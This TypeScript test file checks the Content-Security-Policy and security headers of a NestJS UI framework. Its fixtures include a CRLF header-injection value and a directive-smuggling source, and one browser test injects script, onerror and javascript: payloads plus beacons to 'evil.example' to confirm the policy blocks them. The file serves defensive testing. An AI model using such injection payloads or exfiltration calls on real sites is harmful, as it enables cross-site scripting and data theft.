import { randomBytes } from 'node:crypto';
import type { NestExpressApplication } from '@nestjs/platform-express';
import helmet from 'helmet';
import { Event, Page, State, Var, copy, download, toast, type ReflexOptions } from 'nestjs-reflex';
import * as ui from 'nestjs-reflex/ui';
import type { NextFunction, Request, Response } from 'express';
import type { Browser, Page as Tab } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PageHeaders } from '../../lib/pages/page-headers.js';
import { PagesApp } from '../pages/app.js';
import { openBrowser, withoutBrowser } from '../support/chromium.js';

@State()
class ShopState {
  @Var() clicks = 0;
  @Var() open = false;
  @Var() sales = [
    { month: 'May', sold: 3 },
    { month: 'June', sold: 7 },
  ];
  @Event() click() {
    this.clicks += 1;
    return toast('Clicked');
  }
  @Event() export() {
    return [download({ name: 'sales.csv', data: 'May,3', type: 'text/csv' }), copy('May'), toast('Exported')];
  }
  @Event() show(open: boolean) {
    this.open = open;
  }
}

@Page('/')
class HelloPage {
  render() {
    const s = ui.use(ShopState);
    return ui.html.main(
      ui.html.button({ onClick: s.click(), style: { color: 'teal' } }, 'Click'),
      ui.html.p(ui.t`Clicks: ${s.clicks}`),
    );
  }
}

/** Whatever makes style elements or attributes of its own. */
@Page('/kit')
class KitPage {
  render() {
    const s = ui.use(ShopState);
    return ui.appShell(
      { header: { height: { base: 40, md: 60 } }, padding: 'md' },
      ui.appShell.header(ui.colorSchemeToggle()),
      ui.appShell.main(
        ui.simpleGrid(
          { cols: { base: 1, sm: 2 } },
          ui.text({ p: { base: 4, lg: 8 }, hiddenFrom: 'xl' }, 'small'),
          ui.text('wide'),
        ),
        ui.button({ onClick: s.click(), color: 'grape' }, 'Click'),
        ui.button({ onClick: s.export() }, 'Export'),
        ui.button({ onClick: s.show(true) }, 'Open'),
        ui.text(ui.t`Clicks: ${s.clicks}`),
        ui.modal({ opened: s.open, onClose: s.show(false), title: 'A modal' }, ui.textarea({ autosize: true, label: 'Note' })),
        ui.scrollArea({ h: 60 }, ui.text('inside')),
        ui.select({ label: 'Size', data: ['S', 'M'] }),
        ui.datePickerInput({ label: 'Day' }),
        ui.lineChart({ h: 120, data: s.sales, dataKey: 'month', series: [{ name: 'sold', color: 'teal.6' }] }),
        ui.donutChart({ data: [{ name: 'a', value: 1, color: 'red' }] }),
      ),
    );
  }
}

const shop = { providers: [ShopState, HelloPage, KitPage] };
const start = (contentSecurityPolicy?: ReflexOptions['contentSecurityPolicy'], main?: (app: NestExpressApplication) => void) =>
  PagesApp.start({
    ...shop,
    options: { contentSecurityPolicy, theme: { primaryColor: 'teal' } },
    main: (app) => {
      app.use('/favicon.ico', (_request: Request, response: Response) => response.status(204).end());
      main?.(app);
    },
  });

function policyOf({ headers }: { readonly headers: Headers }): Record<string, string> {
  const parts = headers.get('content-security-policy')!.split(';');
  return Object.fromEntries(parts.map((part) => part.trim().split(/ (.*)/s) as [string, string]));
}

describe('the headers of a page', () => {
  it('allow files of the app, and nothing inline that has not the nonce of this document', async () => {
    await using world = await start();
    const [first, second] = [await world.get('/'), await world.get('/')];
    const { 'style-src': styles, ...policy } = policyOf(first);
    expect(policy).toEqual({
      'default-src': "'self'",
      'script-src': "'self'",
      'script-src-attr': "'none'",
      'img-src': "'self' data: blob:",
      'font-src': "'self' data:",
      'object-src': "'none'",
      'base-uri': "'none'",
      'form-action': "'self'",
      'frame-ancestors': "'self'",
    });
    expect(styles).toMatch(/^'self' 'nonce-[\w-]{22}'$/);
    expect(policyOf(second)['style-src']).not.toBe(styles);
    expect(first.html).toContain(`nonce="${/nonce-([\w-]+)/.exec(styles!)![1]!}"`);
    expect(first.headers.get('x-content-type-options')).toBe('nosniff');
    expect(first.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(first.headers.get('referrer-policy')).toBe('same-origin');
    expect(first.headers.get('cache-control')).toBe('no-store');
    const script = /src="([^"]+)"/.exec(first.html)![1]!;
    expect((await fetch(world.url + script)).headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('are the same where a page fails or is refused', async () => {
    await using world = await PagesApp.start({
      ...shop,
      main: (app) => app.useGlobalGuards({ canActivate: () => false }),
    });
    const refused = await world.get('/');
    expect(refused.status).toBe(403);
    expect(policyOf(refused)['script-src']).toBe("'self'");
  });

  it('take the sources that an app adds', async () => {
    await using world = await start({
      'img-src': ['https://images.example.com'],
      'frame-src': ['https://video.example.com'],
      'style-src': ["'unsafe-inline'"],
      'object-src': ['https://plugins.example.com'],
      'frame-ancestors': ["'none'"],
    });
    const page = await world.get('/');
    expect(policyOf(page)).toMatchObject({
      'img-src': "'self' data: blob: https://images.example.com",
      'frame-src': "'self' https://video.example.com",
      'style-src': "'self' 'unsafe-inline'",
      'object-src': 'https://plugins.example.com',
      'frame-ancestors': "'none'",
    });
    expect(page.headers.get('x-frame-options')).toBe('DENY');
    expect(page.html).not.toContain('nonce');
  });

  it('leave the frame to the policy where it lists who may frame', async () => {
    await using world = await start({ 'frame-ancestors': ['https://portal.example.com'] });
    const { headers } = await world.get('/');
    expect(headers.get('x-frame-options')).toBeNull();
  });

  it('have no policy where the app wants none', async () => {
    await using world = await start(false);
    const { headers, html } = await world.get('/');
    expect(headers.get('content-security-policy')).toBeNull();
    expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(html).not.toContain('nonce');
  });

  it.each([
    ['an unknown directive', { 'image-src': ["'self'"] }],
    ['a directive of the prototype', { constructor: ["'self'"] }],
    ['a source that ends its directive', { 'img-src': ['https://a.example; script-src *'] }],
    ['a source that is two', { 'img-src': ["'self' https://a.example"] }],
    ['a line break', { 'img-src': ['https://a.example\r\nSet-Cookie: a=b'] }],
    ['text for a list', { 'img-src': 'https://a.example' }],
    ['an empty list', { 'img-src': [] }],
  ])('are refused at boot with %s', (_what, policy) => {
    expect(() => new PageHeaders(policy as never)).toThrow(expect.objectContaining({ code: 'REFLEX_BAD_POLICY' }));
  });

  it('are those of helmet where the app uses it', async () => {
    await using world = await start(undefined, (app) => app.use(helmet({ xFrameOptions: { action: 'deny' } })));
    const { headers } = await world.get('/');
    expect(headers.get('content-security-policy')).toContain('upgrade-insecure-requests');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('x-frame-options')).toBe('DENY');
  });
});

/** A tab that remembers what its policy blocked and what its console said. */
class WatchedTab {
  readonly complaints: string[] = [];

  private constructor(readonly tab: Tab) {}

  static async open(browser: Browser, world: PagesApp): Promise<WatchedTab> {
    const context = await browser.newContext({ baseURL: world.url, viewport: { width: 1200, height: 900 } });
    const watched = new WatchedTab(await context.newPage());
    context.on('console', (message) => {
      if (['error', 'warning'].includes(message.type())) watched.complaints.push(message.text());
    });
    context.on('weberror', (error) => watched.complaints.push(String(error.error())));
    await context.addInitScript(`
      globalThis.blocked = [];
      addEventListener('securitypolicyviolation', (event) => {
        blocked.push([event.effectiveDirective, event.blockedURI, event.sourceFile, event.lineNumber].join(' '));
      });`);
    return watched;
  }

  blocked(): Promise<string[]> {
    return this.tab.evaluate<string[]>('blocked');
  }

  /** Everything a page with the kit can do that makes styles. */
  async useKit(): Promise<void> {
    const { tab } = this;
    await tab.goto('/kit');
    await tab.getByRole('button', { name: 'Click' }).click();
    await tab.getByText('Clicks: 1').waitFor();
    await tab.getByText('Clicked', { exact: true }).waitFor();
    const downloaded = tab.waitForEvent('download');
    await tab.getByRole('button', { name: 'Export' }).click();
    expect((await downloaded).suggestedFilename()).toBe('sales.csv');
    await tab.getByText('Exported').waitFor();
    await tab.getByRole('button', { name: /scheme/ }).click();
    await tab.getByLabel('Day').click();
    await tab.getByRole('table').waitFor();
    await tab.keyboard.press('Escape');
    await tab.getByRole('combobox', { name: 'Size' }).click();
    await tab.getByRole('option', { name: 'M' }).click();
    await tab.locator('.recharts-line-curve').hover({ force: true });
    await tab.locator('.recharts-pie-sector').first().waitFor();
    await tab.getByRole('button', { name: 'Open' }).click();
    await tab.getByLabel('Note').fill('one\ntwo\nthree\nfour');
    await tab.getByRole('dialog').waitFor();
    await tab.keyboard.press('Escape');
    await tab.getByRole('dialog').waitFor({ state: 'detached' });
  }

  /** Whether the styles that the kit makes for this theme are in force. */
  themed(): Promise<boolean> {
    return this.tab.evaluate<boolean>(`(() => {
      const style = getComputedStyle(document.documentElement);
      const [primary, teal] = ['primary-color', 'color-teal'].map((name) => style.getPropertyValue('--mantine-' + name + '-filled'));
      return teal !== '' && primary === teal;
    })()`);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.tab.context().close();
  }
}

describe.skipIf(withoutBrowser)('the Content-Security-Policy in Chromium', () => {
  let browser: Browser;
  let world: PagesApp;
  beforeAll(async () => {
    [browser, world] = [await openBrowser(), await start()];
  });
  afterAll(async () => {
    await browser?.close();
    await world?.[Symbol.asyncDispose]();
  });

  it('blocks nothing of a plain page, its socket included', async () => {
    await using watched = await WatchedTab.open(browser, world);
    const { tab } = watched;
    await tab.goto('/');
    await tab.getByRole('button').click();
    await tab.getByText('Clicks: 1').waitFor();
    await tab.getByText('Clicked', { exact: true }).waitFor();
    expect(await tab.evaluate(`getComputedStyle(document.querySelector('main button')).color`)).toBe('rgb(0, 128, 128)');
    expect(await watched.blocked()).toEqual([]);
    expect(watched.complaints).toEqual([]);
  });

  it('blocks nothing of the kit: theme, charts, dates, notifications, modals', async () => {
    await using watched = await WatchedTab.open(browser, world);
    await watched.useKit();
    expect(await watched.blocked()).toEqual([]);
    expect(watched.complaints).toEqual([]);
    expect(await watched.themed()).toBe(true);
  });

  it('runs no script that was injected, and loads from no other origin', async () => {
    await using watched = await WatchedTab.open(browser, world);
    const { tab } = watched;
    await tab.goto('/');
    await tab.getByRole('button').waitFor();
    await tab.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'globalThis.injected = 1';
      document.body.append(script);
      document.querySelector('#reflex-root').insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.injected = 2"><style>body { color: red }</style>');
      document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.injected = 3';
      link.click();
      new Image().src = 'https://evil.example/?stolen';
      fetch('https://evil.example/').catch(() => {});
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      void 0;
    }`);
    await expect
      .poll(async () => [...new Set((await watched.blocked()).map((line) => line.split(' ')[0]))].toSorted())
      .toEqual(['base-uri', 'connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']);
    // Not at once: what the debugger evaluates may call eval.
    const evaluated = `new Promise((done) => setTimeout(() => { try { done(eval('1')); } catch (error) { done(error.name); } }))`;
    expect(await tab.evaluate(evaluated)).toBe('EvalError');
    expect(await tab.evaluate('globalThis.injected')).toBeUndefined();
    expect(await tab.evaluate('document.baseURI')).toBe(`${world.url}/`);
    expect(await tab.evaluate('document.querySelector("meta[property=csp-nonce]").getAttribute("nonce")')).toBe('');
  });

  it('may be the default one of helmet', async () => {
    await using strict = await start(undefined, (app) =>
      app.use(helmet({ contentSecurityPolicy: { directives: { upgradeInsecureRequests: null } } })),
    );
    await using watched = await WatchedTab.open(browser, strict);
    await watched.useKit();
    expect(await watched.blocked()).toEqual([]);
    expect(watched.complaints).toEqual([]);
  });

  it('may be one of helmet with a nonce for scripts and styles', async () => {
    const nonce = (_request: unknown, response: unknown) => `'nonce-${(response as Response).locals['nonce'] as string}'`;
    await using strict = await start(undefined, (app) => {
      app.use((_request: Request, response: Response, next: NextFunction) => {
        response.locals['nonce'] = randomBytes(16).toString('base64');
        next();
      });
      app.use(
        helmet({
          contentSecurityPolicy: {
            useDefaults: false,
            directives: {
              defaultSrc: ["'none'"],
              scriptSrc: [nonce, "'strict-dynamic'"],
              styleSrc: ["'self'", nonce],
              imgSrc: ["'self'", 'data:'],
              connectSrc: ["'self'"],
              baseUri: ["'none'"],
            },
          },
        }),
      );
    });
    await using watched = await WatchedTab.open(browser, strict);
    await watched.useKit();
    expect(await watched.blocked()).toEqual([]);
    expect(watched.complaints).toEqual([]);
    expect(await watched.themed()).toBe(true);
  });
});
